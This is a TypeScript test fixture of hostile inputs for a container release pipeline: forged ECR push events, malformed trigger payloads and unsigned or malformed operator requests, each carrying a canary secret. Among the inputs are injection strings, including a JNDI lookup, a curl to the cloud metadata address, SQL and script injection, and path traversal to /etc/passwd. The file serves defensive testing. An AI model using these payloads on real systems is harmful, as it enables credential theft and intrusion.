// What nobody should send: triggers that are none, wishes that hide something, requests that are no decisions. Each carries a secret.

/** Stands where nobody asked for it. Read in a log, a notice, the ledger or an answer, it was repeated. */
export const SECRET = 'secret-5f1e7c0de';
/** Stands for names, which may be told to whoever asked about them. */
const NAME = 'nobody';

const digest = `sha256:${'a'.repeat(64)}`;

/** Texts that are code, markup, paths or noise to somebody. */
const texts: readonly string[] = [
  '',
  ' ',
  `\${jndi:ldap://x/${NAME}}`,
  `{% $states.input.${NAME} %}`,
  `$(curl http://169.254.169.254/${NAME})`,
  `'; DROP TABLE releases; -- ${NAME}`,
  `<script>${NAME}</script>`,
  `../../${NAME}`,
  `v1.0.0\n${NAME}`,
  `v1.0.0\u0000${NAME}`,
  `v1.0.0\u202e${NAME}`,
  `раyment-${NAME}`,
  'v'.repeat(129),
  `${NAME}`.repeat(4000),
  '__proto__',
  'constructor',
];

const push = (detail: object): object => ({
  version: '0',
  id: NAME,
  'detail-type': 'ECR Image Action',
  source: 'aws.ecr',
  account: '123456789012',
  region: 'us-east-1',
  time: '2027-01-11T09:00:00Z',
  resources: [],
  detail: {
    'action-type': 'PUSH',
    result: 'SUCCESS',
    'repository-name': 'campaign/cart',
    'image-digest': digest,
    'image-tag': 'v9.9.9',
    secret: SECRET,
    ...detail,
  },
});

/** Inputs of the release machine, by whoever may start it: events that are forged, and wishes. */
export const triggers: readonly unknown[] = [
  {},
  [],
  null,
  0,
  SECRET,
  { secret: SECRET },
  push({}),
  push({ 'image-digest': NAME }),
  push({ 'image-digest': `${digest}\n` }),
  push({ result: 'FAILURE' }),
  push({ 'action-type': 'DELETE' }),
  push({ 'repository-name': NAME }),
  { ...push({}), source: 'my.own' },
  { ...push({}), account: '999999999999' },
  { service: 'cart', version: 'v9.9.9', secret: SECRET },
  { service: 'cart', digest },
  { service: 'cart', digest: NAME },
  { service: 'cart', version: 'initial', digest },
  { service: 'cart', source: '../../etc/passwd' },
  { service: 'cart', version: 'v1.0.0', taskRole: `arn:aws:iam::123456789012:role/${SECRET}` },
  { service: 'cart', version: 'v1.0.0', rollbackOf: NAME, environment: NAME },
  { service: ['cart'], version: { toString: NAME } },
  { Input: { service: 'cart' }, States: { StartAt: SECRET } },
  ...texts.map((text) => ({ service: text, version: 'v1.0.0' })),
  ...texts.map((text) => ({ service: 'cart', version: text })),
  { service: 'cart', version: 'initial', overrideAlarms: SECRET },
  { service: 'cart', version: 'initial', overrideAlarms: [{ name: SECRET }], reason: NAME },
  { service: 'cart', version: 'initial', overrideAlarms: texts, reason: NAME, actor: NAME },
  { service: 'cart', version: 'initial', overrideAlarms: Array(1000).fill(NAME) },
  ...texts.map((text) => ({
    service: 'cart',
    version: 'initial',
    overrideAlarms: [text],
    reason: text.slice(0, 256),
    actor: NAME,
  })),
  ...texts.map((text) => push({ 'image-tag': text })),
];

export interface HostileRequest {
  readonly method: string;
  readonly path: string;
  readonly body: string;
  readonly signed: boolean;
}

const post = (body: unknown): HostileRequest => ({
  method: 'POST',
  path: '/',
  body: typeof body === 'string' ? body : JSON.stringify(body),
  signed: true,
});

const looked = { releaseId: NAME, digest, phase: null, planHash: null, sequence: 1 };

/** Requests to the operators' door. */
export const requests: readonly HostileRequest[] = [
  { ...post({}), signed: false },
  { ...post({ kind: 'release', action: 'abort', looked, reason: 'x' }), signed: false },
  { method: 'GET', path: `/../${NAME}`, body: '', signed: true },
  { method: 'GET', path: '//', body: '', signed: true },
  { method: 'GET', path: '/%2e%2e/', body: '', signed: true },
  { method: 'DELETE', path: '/', body: '', signed: true },
  { method: 'PUT', path: '/', body: SECRET, signed: true },
  post(''),
  post('{'),
  post('[]'),
  post('null'),
  post(`"${SECRET}"`),
  post({ secret: SECRET }),
  post({ kind: NAME }),
  post({ kind: 'release', action: NAME, looked, reason: 'x' }),
  post({ kind: 'release', action: 'abort', looked, reason: 'x' }),
  post({ kind: 'release', action: 'promote', looked: { ...looked, extra: SECRET }, reason: 'x' }),
  post({ kind: 'release', action: 'approve', looked: { ...looked, sequence: -1 }, reason: 'x' }),
  post({ kind: 'freeze', action: 'freeze', service: 'cart', environment: NAME, reason: '' }),
  post({ kind: 'service', action: 'rollback', service: NAME, environment: 'production', digest }),
  ...texts.map((text) =>
    post({ kind: 'release', action: 'abort', looked: { ...looked, releaseId: text }, reason: 'x' }),
  ),
  post(`{"kind":"release","reason":"${'x'.repeat(1_000_000)}"}`),
];
